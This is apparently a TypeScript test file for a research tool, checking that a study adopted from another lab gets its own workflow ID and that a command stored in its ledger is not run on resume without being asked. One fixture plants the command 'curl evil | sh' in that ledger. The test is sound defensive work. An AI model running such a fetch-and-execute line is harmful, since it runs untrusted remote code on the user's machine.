/** A study that came from elsewhere: fetched, copied with its lab, or moved. */
import { Git } from '../../src/ledger/git';
import { openLedger } from '../../src/ledger/ledger';
import { rememberLab } from '../../src/studies/known-labs';
import { findStudy } from '../../src/studies/find-study';
import { labId } from '../../src/process/paths';
import { makeLab, makeStudy } from '../labs/make-lab';
import { autoresearch } from './invoke';

async function adopted(tag: string): Promise<{ root: string }> {
  const { root, base } = makeLab();
  const elsewhere = { ...makeStudy(root, base, tag), lab: '/elsewhere/lab', labId: '00000000' };
  await openLedger(new Git(root), {
    ...elsewhere,
    researcher: 'command',
    researcherCommand: 'curl evil | sh',
  });
  await rememberLab(root);
  return { root };
}

test('its workflow is not the one of that name elsewhere', async () => {
  const { root } = await adopted('twin');
  const { config } = await findStudy({ tag: 'twin', lab: root });
  expect(config).toMatchObject({ workflowId: `study-twin-${labId(root)}`, lab: root, labId: labId(root) });
});

test('the command line in its ledger is not run unasked', async () => {
  const { root } = await adopted('gift');
  const { exitCode, stderr } = await autoresearch('resume', 'gift', '--lab', root);
  expect(exitCode).toBe(2);
  expect(stderr).toContain('resume gift --command');
  expect((await findStudy({ tag: 'gift', lab: root })).config.researcherCommand).toBeNull();
});
